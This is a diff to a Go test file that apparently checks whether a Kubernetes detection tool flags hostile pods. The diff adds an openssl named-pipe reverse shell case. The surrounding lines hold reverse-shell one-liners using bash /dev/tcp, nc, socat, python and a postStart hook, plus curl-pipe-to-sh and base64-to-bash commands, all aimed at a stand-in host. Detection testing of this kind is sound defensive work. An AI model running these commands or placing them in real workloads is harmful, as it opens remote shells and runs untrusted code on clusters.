@@ -191,6 +191,7 @@ func (d *driver) podContent() {
 	s.risk("shell", runs("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"), `{containers: [{name: app, command: [nc, "-e", /bin/sh, 192.0.2.9, "4444"]}]}`)
 	s.fires("downloader", d.mallory).create(pod("lab", "shell-curl", runs("curl -s http://192.0.2.9/x | sh")))
 	s.fires("base64", d.mallory).create(pod("lab", "shell-base64", runs("echo aWQK | base64 -d | bash")))
+	s.fires("openssl", d.mallory).create(pod("lab", "shell-openssl", runs("mknod p p; sh <p 2>&1 | openssl s_client -quiet -connect 192.0.2.9:4444 >p")))
 	s.fires("socat", d.mallory).create(pod("lab", "shell-socat", containers(`command: [socat, "TCP:192.0.2.9:4444", "EXEC:/bin/sh"]`)))
 	s.fires("python", d.mallory).create(pod("lab", "shell-python", containers(`command: [python3, -c, "import socket,os;s=socket.socket();s.connect(('192.0.2.9',4444));os.dup2(s.fileno(),0)"]`)))
 	s.fires("hook", d.mallory).create(pod("lab", "shell-hook", containers(`lifecycle: {postStart: {exec: {command: [bash, -c, "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 4444 > /tmp/f"]}}}`)))
